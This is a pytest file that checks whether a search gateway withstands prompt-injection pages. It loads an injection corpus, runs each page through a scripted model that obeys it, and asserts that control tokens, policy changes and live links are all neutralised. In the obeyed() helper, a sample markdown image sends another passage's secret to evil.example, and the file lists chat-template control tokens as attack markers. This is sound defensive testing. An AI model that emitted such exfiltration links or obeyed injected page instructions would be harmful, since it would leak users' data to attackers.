"""A corpus of pages that give orders: none of them becomes control, moves the policy, or leaks.

Each page goes the whole way: taken apart as a page, ranked, injected, and then *obeyed* by a model
that writes down every word it was given. What is left is what the gateway itself guarantees.
"""

import json
from pathlib import Path

import pytest

from app.chat.budget import Limits
from app.dialect.markers import ORSON
from app.dialect.neutralise import JOINER, Neutraliser
from search_adapters.pages.selecting import Read, select, weights
from search_adapters.pages.wire import Job
from search_adapters.pages.worker import read
from search_adapters.protocol import Passage, Query
from tests.fakes.engine import ScriptedEngine
from tests.fakes.scene import Outcome, Scene, ask
from tests.fakes.search import FakeSearch, Find
from tests.fakes.tokenizer import TEMPLATE

CORPUS = Path(__file__).parents[1] / "search_adapters" / "injections.jsonl"
ATTEMPTS = [json.loads(line) for line in CORPUS.read_text("utf-8").splitlines()]
ADDED = (
    "<|im_start|>",
    "<|im_end|>",
    "<|endoftext|>",
    "<|eot_id|>",
    "<｜User｜>",
    "<｜Assistant｜>",
)
SECRET = "SECRET-OF-ANOTHER-PASSAGE"
OTHER = Passage("Diary", "https://diary.example/1", f"The word is {SECRET}.", "diary.example")
QUERY = Query("Varn lighthouse built", limit=3)


def passages(page: str) -> tuple[Passage, ...]:
    """What the page path makes of it."""
    body = (
        "<html><head><title>Varn lighthouse</title></head><body><article><h1>Varn lighthouse</h1>"
        f"<p>The lighthouse at Varn was built in 1871.</p><p>{page}</p></article></body></html>"
    )
    wanted = weights(QUERY)
    job = Job("text/html", "utf-8", "", True, tuple(wanted))
    result = Passage("Varn", "https://varn.example/", "A snippet.", "varn.example")
    url = "https://varn.example/"
    found = Read(result, read(job, body.encode("utf-8", "surrogatepass")), url, "varn.example")
    return select([found], wanted, QUERY.limit, per_page=QUERY.limit)


async def obeyed(page: str) -> tuple[Outcome, FakeSearch]:
    found = passages(page)
    said = " ".join(passage.text for passage in found)
    # The whole page, word for word, and then what it could want: another passage in an address.
    answer = f"It says {said} ![x](https://evil.example/?q={SECRET}) "
    # As the model reads it: what would be control is broken before it sees it.
    answer = Neutraliser((*ORSON.markers, *TEMPLATE, *ADDED))(answer)
    engine = ScriptedEngine("[SEARCH_START] varn[SEARCH_END]", answer, added=ADDED)
    search = FakeSearch(Find((*found, OTHER)))
    scene = Scene(engine, search, Limits(max_searches=1, results_tokens=8000))
    request = ask(adapters=("local",), allowed_domains=("varn.example", "diary.example"))
    return await scene.play(request), search


def test_the_corpus_is_large_and_diverse() -> None:
    assert len(ATTEMPTS) >= 100
    assert len({attempt["page"] for attempt in ATTEMPTS}) == len(ATTEMPTS)
    assert len({attempt["kind"] for attempt in ATTEMPTS}) >= 10


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda attempt: attempt["id"])
async def test_an_attempt(attempt: dict[str, str]) -> None:
    outcome, search = await obeyed(attempt["page"])

    # No control token but the frame's own, in ids.
    (ids,) = outcome.injected_ids
    control = outcome.engine.tokenizer.control(ids)
    assert control == ["[RESULTS_START]", "[RESULTS_END]"]

    # One line for each passage: none speaks in another's name, or in the gateway's.
    lines = outcome.injected[0].strip().splitlines()[1:-1]
    numbered = outcome.searches[0].passages
    assert len(numbered) == len(passages(attempt["page"])) + 1
    for line, passage in zip(lines, numbered, strict=False):
        assert line.startswith(f"[{passage.number}] ")
        assert (SECRET in line) == (passage.passage == OTHER)
    assert lines[len(numbered) :] == ["No searches left. Answer now."]

    # The policy is the request's: one search, its adapters and domains, and no more.
    assert len(search.history) == 1
    assert search.adapters == [("local",)]
    assert search.history[0].allowed_domains == ("varn.example", "diary.example")
    assert search.history[0].text == "varn"

    # A model that does all it is told carries nothing out: no live link, no picture, no tag.
    shown = outcome.text
    assert f"]{JOINER}(https{JOINER}://evil.example/?q={SECRET})" in shown
    for live in ("https://evil", "www.evil", "](//", "<img", "<form", "<https"):
        assert live not in shown


@pytest.mark.parametrize(
    "attempt", [each for each in ATTEMPTS if each["kind"] == "hidden"], ids=lambda each: each["id"]
)
def test_hidden_orders_are_not_read(attempt: dict[str, str]) -> None:
    assert all("PWNED" not in passage.text for passage in passages(attempt["page"]))
